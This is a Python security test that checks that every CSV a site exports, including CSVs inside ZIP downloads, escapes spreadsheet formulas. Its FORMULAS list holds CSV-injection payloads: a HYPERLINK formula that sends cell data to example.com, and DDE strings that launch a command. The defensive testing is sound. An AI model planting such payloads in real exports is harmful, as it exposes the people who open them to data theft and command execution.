"""Every CSV the site offers opens in a spreadsheet without running a formula."""

from partnerships.spreadsheets import FORMULA_STARTS
from tests.security.discovery import crawl
from tests.security.documents import csv_rows, files_in
from tests.security.figures import report
from tests.security.planting import plant_everywhere

# What a spreadsheet runs (or runs after the whitespace it skips).
FORMULAS = [
    '=HYPERLINK("http://example.com/x?"&A1,"Open")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_every_csv_export_neutralises_formulae(client, planted):
    planted_cells = plant_everywhere(FORMULAS)
    client.force_login(planted.lead)
    crawled = crawl(client, planted.urls)
    # CSVs served as such, and those inside ZIP downloads.
    exports = [(page.url, page.body) for page in crawled.of_kind("is_csv")] + [
        (page.url, body)
        for page in crawled.pages
        if page.status == 200 and not page.is_csv
        for name, body in files_in(page.body, page.url)
        if name.endswith(".csv") and name != page.url
    ]

    unsafe, carrying = [], {}
    for url, body in exports:
        rows = csv_rows(body)
        cells = [cell for row in rows for cell in row]
        unsafe += [(url, cell) for cell in cells if cell.startswith(FORMULA_STARTS)]
        if len(rows) < 2:
            continue  # a heading and nothing under it (area B has no actions)
        carrying[url] = carrying.get(url, 0) + sum(
            cell[1:].startswith(FORMULA_STARTS) and cell.startswith("'") for cell in cells
        )
    report(
        "CSV",
        f"{len(exports)} CSV files in {len({url for url, _ in exports})} downloads found by "
        "content type (CSV, or CSVs in a ZIP), "
        f"{planted_cells} text cells planted, "
        f"{sum(carrying.values())} formula cells exported, unneutralised {len(unsafe)}",
    )
    assert exports
    # Each download with rows (a CSV, or a ZIP's CSVs together) carried planted text, so
    # its cleanliness was tested, not assumed.
    assert all(carrying.values()), {url: n for url, n in carrying.items() if not n}
    assert not unsafe
